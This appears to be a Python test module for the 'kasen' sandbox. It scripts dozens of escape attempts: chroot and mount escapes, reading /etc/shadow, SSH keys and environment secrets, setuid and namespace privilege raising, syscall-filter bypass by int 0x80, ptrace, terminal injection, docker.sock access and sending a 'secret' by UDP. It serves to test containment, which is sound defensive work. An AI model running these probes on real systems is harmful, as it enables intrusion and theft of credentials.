"""Attempts to get out. Each says what it tries before it does, says so when it got through, and ends in an error."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

PRELUDE = '''
import ctypes, errno, os, signal, socket, stat, sys, time
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
FAILED = []
class Contained(Exception):
    pass
def checked(result):
    if result in (-1, ctypes.c_void_p(-1).value):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result
def call(number, *given):
    """A system call by its number."""
    return checked(LIBC.syscall(ctypes.c_long(number), *(
        g if isinstance(g, (bytes, ctypes.Array, ctypes.Structure, type(None))) else ctypes.c_long(g) for g in given)))
def libc(name, *given):
    return checked(getattr(LIBC, name)(*given))
def attempt(what, function, *given, **more):
    print("TRIED", what, flush=True)
    try:
        got = function(*given, **more)
    except Exception as error:
        FAILED.append(f"{what}: {error}")
        return None
    print("ESCAPED", what, repr(got)[:300], flush=True)
    return got
def refused(what, function, *given, **more):
    """For what may be answered, if only the answer is not what the attack wants: it returns the answer, or None."""
    print("TRIED", what, flush=True)
    try:
        return function(*given, **more)
    except Exception as error:
        FAILED.append(f"{what}: {error}")
        return None
def got(what, value):
    print("ESCAPED", what, repr(value)[:300], flush=True)
def read(path):
    with open(path, "rb") as file:
        return file.read(200)
def writable(path):
    os.close(os.open(path, os.O_WRONLY))  # nothing is written: where it got through, nothing is to break
    return path
def same_mode(path):
    os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
    return path
def write(path, mode="wb"):
    with open(path, mode) as file:
        file.write(b"x")
        return path
'''
ENDING = '\nraise Contained("; ".join(FAILED)[:200] or "there was nothing to be had")\n'


@dataclass(frozen=True)
class Attack:
    """An attempt; `proof` is one that gets through outside the sandbox, which is tried first."""

    name: str
    code: str
    proof: bool = False
    by_filter: bool = False
    """Only the filter of system calls stands in its way: the namespaces have no word on it."""

    def program(self, **given: Any) -> str:
        """What is run; `given` are facts of the machine that the attacker is assumed to know."""
        return f"{PRELUDE}\nGIVEN = {json.dumps(given)!r}\nimport json; GIVEN = json.loads(GIVEN)\n{self.code}{ENDING}"


MOUNTS = [
    Attack(
        "a read-only bind is remounted and written to",
        """
given = os.getcwd() + "/given.csv"
for place in (sys.prefix + "/lib", sys.base_prefix + "/lib", "/usr/lib", "/etc/ld.so.cache", given, "/"):
    for flags in (0x20, 0x1020, 0x5020):  # MS_REMOUNT, with MS_BIND, with MS_REC
        attempt(f"remount {place} {flags:#x}", libc, "mount", None, place.encode(), None, flags, None)
attempt("write below", write, sys.prefix + "/lib/kasen-escaped")
attempt("write there", write, "given.csv")
""",
    ),
    Attack(
        "something else is bound over what is read-only",
        """
os.makedirs("mine", exist_ok=True)
for target in ("/usr/lib", sys.prefix + "/lib"):
    attempt(f"bind over {target}", libc, "mount", b"mine", target.encode(), None, 0x1000, None)
    attempt(f"move onto {target}", libc, "mount", b"mine", target.encode(), None, 0x2000, None)
    attempt(f"tmpfs on {target}", libc, "mount", b"none", target.encode(), b"tmpfs", 0, None)
    attempt(f"overlay on {target}", libc, "mount", b"none", target.encode(), b"overlay", 0, b"lowerdir=/usr")
""",
    ),
    Attack(
        "what covers the machine is unmounted",
        """
for place in ("/", "/box", "/usr/lib", "/tmp", os.getcwd() + "/given.csv", "/box/main.py"):
    for flags in (0, 1, 2, 8):
        attempt(f"umount {place} {flags}", libc, "umount2", place.encode(), flags)
if os.path.exists("/oldroot"):
    got("the old root", os.listdir("/oldroot"))
""",
    ),
    Attack(
        "the root is exchanged",
        """
os.makedirs("new/old", exist_ok=True)
attempt("pivot_root", call, 155, b"new", b"new/old")
attempt("pivot_root on itself", call, 155, b".", b".")
attempt("chroot", os.chroot, "new")
""",
    ),
    Attack(
        "the new calls for mounts are used",
        """
AT, CLONE, RECURSIVE = -100, 1, 0x8000
tree = attempt("open_tree", call, 428, AT, b"/usr/lib", CLONE | RECURSIVE)
attempt("mount_setattr", call, 442, AT, b"/usr/lib", RECURSIVE, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32)
attempt("fsopen", call, 430, b"tmpfs", 0)
attempt("fspick", call, 433, AT, b"/usr/lib", 0)
attempt("move_mount", call, 429, tree or 0, b"", AT, b"/usr/lib", 4)
""",
    ),
    Attack(
        "chroot is left by the door",
        """
os.makedirs("room", exist_ok=True)
door = os.open(".", os.O_RDONLY)
attempt("chroot", os.chroot, "room")
os.fchdir(door)
for _ in range(40):
    os.chdir("..")
if set(os.listdir(".")) & {"home", "var", "proc", "sys", "boot"}:
    got("the machine's root", os.listdir("."))
""",
    ),
]

FILES = [
    Attack(
        "accounts and settings of the machine are read",
        """
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/ssh/ssh_host_rsa_key"):
    attempt(path, read, path)
if os.listdir("/etc") != ["ld.so.cache"]:
    got("/etc", os.listdir("/etc"))
""",
        proof=True,
    ),
    Attack(
        "homes are read",
        """
places = [f"{home}/{name}" for home in ("/root", GIVEN["home"]) for name in (".bashrc", ".profile", ".ssh/id_rsa")]
for path in places:
    attempt(path, read, path)
own = [path.split("/") for path in (sys.prefix, sys.base_prefix)]
for path in ("/root", "/home", GIVEN["home"]):
    parts = path.split("/")
    names = refused(path, os.listdir, path)
    if set(names or ()) - {way[len(parts)] for way in own if way[: len(parts)] == parts}:
        got(path, names)
""",
    ),
    Attack(
        "a file of the user is read by its path",
        """
attempt("secret", read, GIVEN["secret"])
attempt("by the way around", read, "/box/work/../../" + GIVEN["secret"])
attempt("its folder", os.listdir, os.path.dirname(GIVEN["secret"]))
""",
        proof=True,
    ),
    Attack(
        "the checkout is read",
        """
for path in ("pyproject.toml", ".git/HEAD", "src/kasen/__init__.py", ".env"):
    attempt(path, read, GIVEN["checkout"] + "/" + path)
try:
    import kasen
except ImportError:
    pass
else:
    got("kasen itself", kasen.__file__)
""",
        proof=True,
    ),
    Attack(
        "data beside the data that was given is read",
        """
attempt("beside", read, GIVEN["beside"])
attempt("the original", read, GIVEN["original"])
attempt("over the file", read, "given.csv/../beside.csv")
attempt("over the folder", read, "../beside.csv")
names = sorted(os.listdir("."))
if names != ["given.csv", "out"]:
    got("more than was given", names)
""",
        proof=True,
    ),
    Attack(
        "the interpreter and its packages are changed",
        """
import json, os as module
standard = os.path.dirname(module.__file__)
for folder in (sys.prefix, sys.prefix + "/lib", sys.base_prefix + "/lib", standard, "/usr/lib", "/lib64"):
    attempt(f"new file in {folder}", write, folder + "/kasen-escaped.pth")
    attempt(f"mode of {folder}", same_mode, folder)
    attempt(f"owner of {folder}", os.chown, folder, -1, -1)
for path in (module.__file__, json.__file__, sys.executable, os.path.realpath("/lib64/ld-linux-x86-64.so.2")):
    attempt(f"write {path}", writable, path)
    attempt(f"rename {path}", os.rename, path, path)
    attempt(f"mode of {path}", same_mode, path)
    attempt(f"attribute of {path}", os.setxattr, path, "user.kasen", b"x")
    attempt(f"owner of {path}", os.chown, path, -1, -1)
""",
    ),
    Attack(
        "the data that was given is changed",
        """
for mode in ("wb", "ab", "r+b"):
    attempt(mode, write, "given.csv", mode)
attempt("truncate", os.truncate, "given.csv", 0)
attempt("remove", os.unlink, "given.csv")
attempt("rename", os.rename, "given.csv", "other.csv")
attempt("replace", os.replace, "out", "given.csv")
attempt("mode", os.chmod, "given.csv", 0o666)
attempt("time", os.utime, "given.csv")
attempt("large: write", write, "large.csv", "r+b") if os.path.exists("large.csv") else None
""",
    ),
    Attack(
        "files are made outside the box",
        """
for path in ("/kasen-escaped", "/usr/kasen-escaped", "/etc/kasen-escaped", "/dev/kasen-escaped",
             "/var/tmp/kasen-escaped", "/run/kasen-escaped", GIVEN["home"] + "/kasen-escaped"):
    attempt(path, write, path)
attempt("folder", os.mkdir, "/kasen-escaped")
attempt("link", os.symlink, "/etc", "/kasen-escaped")
""",
    ),
    Attack(
        "what is read-only is linked into the box and changed there",
        """
import os as module
for path in ("given.csv", module.__file__, "/etc/ld.so.cache"):
    attempt(f"link {path}", os.link, path, "out/linked")
attempt("through a link", lambda: (os.symlink(module.__file__, "out/there"), writable("out/there")))
""",
    ),
    Attack(
        "a file is opened by its handle, as if there were no folders",
        """
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]
handle, number = Handle(128), ctypes.c_int()
attempt("name_to_handle_at", call, 303, -100, b"/usr/lib", ctypes.addressof(handle), ctypes.addressof(number), 0)
place = os.open("/usr/lib", os.O_RDONLY)
handle.size, handle.type = 8, 1
handle.bytes[0] = 2  # the root of a file system
attempt("open_by_handle_at", call, 304, place, ctypes.addressof(handle), os.O_RDONLY)
""",
        by_filter=True,
    ),
    Attack(
        "devices are made and read",
        """
BLOCK, CHARACTER = stat.S_IFBLK, stat.S_IFCHR
for kind, name, major, minor in ((BLOCK, "sda", 8, 0), (BLOCK, "vda", 254, 0), (CHARACTER, "mem", 1, 1),
                                 (CHARACTER, "kmsg", 1, 11), (CHARACTER, "null", 1, 3)):
    attempt(f"make {name}", os.mknod, name, kind | 0o666, os.makedev(major, minor))
for name in ("mem", "kmem", "port", "sda", "vda", "kmsg", "tty", "fuse", "kvm"):
    attempt(name, read, f"/dev/{name}")
if set(os.listdir("/dev")) - {"null", "shm"}:
    got("/dev", os.listdir("/dev"))
""",
    ),
    Attack(
        "the machine's own /dev/null is changed",
        """
import subprocess
for path in ("/dev/null", "/dev/zero", "/dev/urandom"):
    attempt(path, lambda: same_mode(path) if stat.S_ISCHR(os.stat(path).st_mode) else 1 / 0)
for number in (0, 1, 2):
    if not stat.S_ISFIFO(os.fstat(number).st_mode):
        got("a stream that is no pipe", os.fstat(number))
    os.fchmod(number, 0o600)
subprocess.run([sys.executable, "-c", ""], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, check=True)
""",
    ),
    Attack(
        "/proc and /sys of the machine are used",
        """
for path in ("/proc/1/environ", "/proc/self/environ", "/proc/self/root/etc/passwd", "/proc/1/root", "/proc/kcore",
             "/proc/self/mem", "/proc/self/exe", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper",
             "/sys/fs/cgroup/cgroup.procs", "/sys/firmware/efi"):
    attempt(path, read, path)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/self/oom_score_adj"):
    attempt(f"write {path}", writable, path)
os.makedirs("proc", exist_ok=True)
attempt("a proc of its own", libc, "mount", b"proc", b"proc", b"proc", 0, None)
attempt("a sysfs of its own", libc, "mount", b"sys", b"proc", b"sysfs", 0, None)
attempt("a cgroup of its own", libc, "mount", b"none", b"proc", b"cgroup", 0, b"memory")
""",
    ),
    Attack(
        "secrets of the environment are read",
        """
known = {"HOME", "TMPDIR", "LANG", "PATH", "PWD", "LC_CTYPE", "LD_LIBRARY_PATH"}
print("TRIED the environment", flush=True)
more = {name: value for name, value in os.environ.items() if name not in known and not name.endswith("_NUM_THREADS")}
if more:
    got("the environment", more)
for pid in (1, os.getppid()):
    attempt(f"environment of {pid}", read, f"/proc/{pid}/environ")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(LIBC, "environ")
at = 0
while environ[at]:
    if b"sk-test" in environ[at]:
        got("a key", environ[at])
    at += 1
""",
    ),
    Attack(
        "descriptors that were left open are used",
        """
print("TRIED descriptors", flush=True)
for number in range(3, 4096):
    try:
        found = os.fstat(number)
    except OSError:
        continue
    got(f"descriptor {number}", found)
for number in (0, 1, 2):
    attempt(f"folder of {number}", os.fchdir, number)
    attempt(f"file below {number}", os.open, "../../etc/passwd", os.O_RDONLY, dir_fd=number)
if sys.stdin.read():
    got("something to read", "stdin")
""",
    ),
]

RIGHTS = [
    Attack(
        "the user becomes another",
        """
for name, given in (("setuid", (0,)), ("seteuid", (0,)), ("setgid", (0,)), ("setresuid", (0, 0, 0)),
                    ("setgroups", ([0],)),
                    ("setreuid", (1000, 1000)), ("setregid", (0, 0))):
    attempt(name, getattr(os, name), *given)
if os.getuid() != 65534 or os.getgid() != 65534:
    got("another user", os.getuid())
""",
    ),
    Attack(
        "programs that give rights are looked for and made",
        """
import shutil, subprocess
print("TRIED to find some", flush=True)
for name in ("su", "sudo", "mount", "passwd", "newuidmap", "pkexec", "bwrap", "sh", "bash"):
    if shutil.which(name, path="/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin"):
        got("program", name)
shutil.copy(os.path.realpath(sys.executable), "mine")
os.chmod("mine", 0o6755)
def run():
    code = "import os; print(os.getuid(), os.geteuid(), os.getegid())"
    done = subprocess.run([os.path.abspath("mine"), "-S", "-c", code], capture_output=True, text=True, check=True,
                          env={"PYTHONHOME": sys.base_prefix})
    if done.stdout.split() == ["65534"] * 3:
        raise OSError("it is still nobody")
    return done.stdout
attempt("setuid of its own", run)
for path in ("/usr/lib/openssh/ssh-keysign", "/usr/lib/dbus-1.0/dbus-daemon-launch-helper",
             "/usr/lib/polkit-1/polkit-agent-helper-1"):
    if os.path.exists(path):
        # It may be there, on a mount that gives no rights, for a process that can get none.
        held = os.statvfs(path).f_flag & os.ST_NOSUID and LIBC.prctl(39, 0, 0, 0, 0)
        attempt(f"{path} gives rights", lambda: 1 / 0 if held else path)
""",
    ),
    Attack(
        "capabilities are looked for and raised",
        """
class Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
header, sets = Header(0x20080522, 0), (ctypes.c_uint32 * 6)()
print("TRIED capget", flush=True)
checked(LIBC.capget(ctypes.byref(header), sets))
if any(sets):
    got("capabilities", list(sets))
for wanted in (1 << 21, 0xFFFFFFFF):
    attempt("capset", libc, "capset", ctypes.byref(header), (ctypes.c_uint32 * 6)(wanted, wanted, wanted, 0, 0, 0))
for number in range(41):
    if LIBC.prctl(23, number, 0, 0, 0) == 1:
        got("in the bounding set", number)
    attempt(f"ambient {number}", libc, "prctl", 47, 2, number, 0, 0)
if LIBC.prctl(39, 0, 0, 0, 0) != 1:
    got("no_new_privs is off", 0)
""",
    ),
    Attack(
        "a user namespace of its own gives all rights",
        """
NEW = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000,
       "cgroup": 0x2000000, "time": 0x80}
for name, flag in NEW.items():
    attempt(f"unshare {name}", libc, "unshare", flag)
    attempt(f"unshare user and {name}", libc, "unshare", flag | NEW["user"])
    attempt(f"clone user and {name}", call, 56, flag | NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0)
attempt("clone3", call, 435, (ctypes.c_uint64 * 8)(NEW["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
attempt("setns", libc, "setns", 0, 0)
""",
    ),
    Attack(
        "the kernel is changed",
        """
for name, number, given in (("init_module", 175, (b"x", 1, b"")), ("finit_module", 313, (0, b"", 0)),
                            ("delete_module", 176, (b"x", 0)),
                            ("kexec_load", 246, (0, 0, 0, 0)), ("kexec_file_load", 320, (0, 0, 0, b"", 0)),
                            ("reboot", 169, (0xFEE1DEAD, 672274793, 0, 0)), ("swapon", 167, (b"given.csv", 0)),
                            ("acct", 163, (b"given.csv",)), ("syslog", 103, (3, ctypes.create_string_buffer(64), 64)),
                            ("sethostname", 170, (os.uname().nodename.encode(), len(os.uname().nodename))),
                            ("settimeofday", 164, ((ctypes.c_long * 2)(int(time.time()), 0), None)),
                            ("clock_settime", 227, (0, (ctypes.c_long * 2)(int(time.time()), 0))), ("iopl", 172, (3,)),
                            ("ioperm", 173, (0, 1, 1)),
                            ("quotactl", 179, (0, b"", 0, None)), ("vhangup", 153, ())):
    attempt(name, call, number, *given)
""",
    ),
    Attack(
        "what widens the kernel's surface is opened",
        """
attempt("bpf", call, 321, 5, (ctypes.c_uint64 * 16)(), 128)
attempt("perf_event_open", call, 298, (ctypes.c_uint64 * 16)(112 << 32 | 1), 0, -1, -1, 0)
attempt("userfaultfd", call, 323, 1)
attempt("io_uring_setup", call, 425, 4, (ctypes.c_uint64 * 32)())
attempt("io_setup", call, 206, 1, (ctypes.c_uint64 * 1)())
attempt("fanotify_init", call, 300, 0, 0)
attempt("memfd_create", os.memfd_create, "x")
attempt("kcmp", call, 312, os.getpid(), os.getpid(), 0, 0, 0)
""",
        by_filter=True,
    ),
    Attack(
        "a session of its own has a share of the processor of its own",
        """
attempt("setsid", os.setsid)
attempt("setsid by its number", call, 112)
""",
        by_filter=True,
    ),
    Attack(
        "keys that the user's session holds are read",
        """
attempt("session keyring", call, 250, 0, -3, 0)
attempt("user keyring", call, 250, 0, -4, 0)
attempt("user session keyring", call, 250, 0, -5, 0)
attempt("search", call, 250, 10, -3, b"user", b"kasen", 0)
attempt("add", call, 248, b"user", b"kasen", b"x", 1, -2)
attempt("request", call, 249, b"user", b"kasen", None, -2)
attempt("join", call, 250, 1, None)
""",
        by_filter=True,
    ),
    Attack(
        "calls of another machine pass the filter",
        """
import mmap
def compatible(number, *given):
    # mov eax, number; mov ebx, …; mov ecx, …; mov edx, …; int 0x80; ret: the calls of 32-bit programs
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code = b"\\x53" + b"\\xb8" + number.to_bytes(4, "little")
    for register, value in zip((0xBB, 0xB9, 0xBA), given):
        code += bytes([register]) + value.to_bytes(4, "little")
    page.write(code + b"\\xcd\\x80\\x5b\\x48\\x98\\xc3")
    result = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result
attempt("socket by int 0x80", compatible, 359, socket.AF_INET, socket.SOCK_STREAM, 0)
attempt("unshare by int 0x80", compatible, 310, 0x10000000)
attempt("socket by x32", call, 0x40000000 | 41, socket.AF_INET, socket.SOCK_STREAM, 0)
attempt("mount by x32", call, 0x40000000 | 165, None, b"/usr/lib", None, 0x1020, None)
""",
        by_filter=True,
    ),
    Attack(
        "the terminal of the user is typed into",
        """
import fcntl, termios
for number in (0, 1, 2):
    attempt(f"TIOCSTI {number}", fcntl.ioctl, number, termios.TIOCSTI, b"x")
    attempt(f"TIOCLINUX {number}", fcntl.ioctl, number, 0x541C, b"\\x02")
    attempt(f"TIOCSCTTY {number}", fcntl.ioctl, number, termios.TIOCSCTTY, 1)
attempt("/dev/tty", write, "/dev/tty")
attempt("a pty", os.openpty)
attempt("the terminal's name", os.ttyname, 1)
""",
    ),
]

PROCESSES = [
    Attack(
        "processes outside are traced",
        """
for pid in (GIVEN["victim"], GIVEN["pid"], os.getppid() or 1):
    attempt(f"attach {pid}", libc, "ptrace", 16, pid, None, None)
    attempt(f"seize {pid}", libc, "ptrace", 0x4206, pid, None, None)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    attempt(f"read memory of {pid}", call, 310, pid, local, 1, local, 1, 0)
    attempt(f"write memory of {pid}", call, 311, pid, local, 1, local, 1, 0)
attempt("be traced", libc, "ptrace", 0, 0, None, None)
""",
        by_filter=True,
    ),
    Attack(
        "processes outside are killed",
        """
for pid in (GIVEN["victim"], GIVEN["pid"], -GIVEN["victim"]):
    for number in (0, signal.SIGTERM, signal.SIGKILL):
        attempt(f"kill {pid} {number}", os.kill, pid, number)
attempt("pidfd", os.pidfd_open, GIVEN["victim"])
attempt("getfd", lambda: call(438, os.pidfd_open(GIVEN["victim"]), 0, 0))
attempt("niceness", os.setpriority, os.PRIO_PROCESS, GIVEN["victim"], 19)
attempt("limits", __import__("resource").prlimit, GIVEN["victim"], 7, (0, 0))
attempt("scheduling", os.sched_setaffinity, GIVEN["victim"], {0})
if os.getpid() < 100:  # in a namespace of its own, where nobody else is in reach
    refused("everybody in reach", os.kill, -1, signal.SIGTERM)
else:
    got("the machine's own numbers", os.getpid())
""",
    ),
    Attack(
        "the group and the first process are killed",
        """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
refused("group", os.killpg, 0, signal.SIGTERM)
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
    refused(f"first process {number}", os.kill, 1, number)
refused("parent", os.kill, os.getppid(), signal.SIGKILL)
""",
    ),
    Attack(
        "limits are lifted",
        """
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_MEMLOCK"):
    limit = getattr(resource, name)
    soft, hard = resource.getrlimit(limit)
    if hard == resource.RLIM_INFINITY:
        got(f"{name} is not set", hard)
    attempt(name, resource.setrlimit, limit, (hard + 1, hard + 1))
    attempt(f"{name} off", resource.setrlimit, limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
attempt("niceness", lambda: os.setpriority(os.PRIO_PROCESS, 0, 0))
attempt("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
""",
    ),
]

NETWORK = [
    Attack(
        "a server on this machine is reached by TCP",
        """
def reach(family, *address):
    with socket.socket(family, socket.SOCK_STREAM) as wire:
        wire.settimeout(1)
        wire.connect(*address)
        return address
attempt("127.0.0.1", reach, socket.AF_INET, ("127.0.0.1", GIVEN["tcp"]))
attempt("localhost", reach, socket.AF_INET, ("localhost", GIVEN["tcp"]))
attempt("0.0.0.0", reach, socket.AF_INET, ("0.0.0.0", GIVEN["tcp"]))
attempt("::ffff:127.0.0.1", reach, socket.AF_INET6, ("::ffff:127.0.0.1", GIVEN["tcp"]))
""",
        proof=True,
    ),
    Attack(
        "a packet is sent by UDP",
        """
def send(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.sendto(b"secret", (host, GIVEN["udp"]))
        wire.settimeout(1)
        return wire.recv(10)
attempt("loopback", send, "127.0.0.1")
attempt("everybody", send, "255.255.255.255")
attempt("far away", send, "192.0.2.1")
""",
        proof=True,
    ),
    Attack(
        "an abstract socket of the machine is reached",
        """
def reach(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as wire:
        wire.settimeout(1)
        wire.connect(name)
        return name
attempt("abstract", reach, "\\0" + GIVEN["abstract"])
attempt("by path", reach, GIVEN["unix"])
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
    attempt(path, reach, path)
""",
        proof=True,
    ),
    Attack(
        "a name is looked up",
        """
attempt("getaddrinfo", socket.getaddrinfo, "example.com", 80)
attempt("gethostbyname", socket.gethostbyname, "example.org")
attempt("urlopen", lambda: __import__("urllib.request").request.urlopen("http://example.com", timeout=1))
attempt("/etc/resolv.conf", read, "/etc/resolv.conf")
""",
    ),
    Attack(
        "packets are made by hand, and the kernel is asked about the network",
        """
for name, given in (("raw", (socket.AF_INET, socket.SOCK_RAW, 1)), ("packet", (socket.AF_PACKET, socket.SOCK_RAW, 3)),
                    ("bluetooth", (31, socket.SOCK_RAW, 1)), ("xdp", (44, socket.SOCK_RAW, 0))):
    attempt(name, lambda: socket.socket(*given).fileno())
names = [name for _, name in refused("interfaces", socket.if_nameindex) or ()]
if set(names) - {"lo"}:
    got("interfaces", names)
""",
    ),
    Attack(
        "the machine below this one is reached by vsock",
        """
def reach(cid, port):
    with socket.socket(40, socket.SOCK_STREAM) as wire:
        return wire.fileno()
attempt("vsock", reach, 2, 1024)
attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET).fileno())
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno())
""",
        by_filter=True,
    ),
    Attack(
        "memory and queues that others share are read",
        """
attempt("shmat", call, 30, GIVEN["shm"], 0, 0o10000)
attempt("shmget", call, 29, GIVEN["key"], 0, 0)
attempt("msgget", call, 68, GIVEN["key"], 0)
attempt("mq_open", call, 240, b"kasen-test", 0, 0, None)
names = refused("/dev/shm", os.listdir, "/dev/shm")
if names:
    got("/dev/shm", names)
""",
    ),
]

WALLS = [*MOUNTS, *FILES, *RIGHTS, *PROCESSES, *NETWORK]
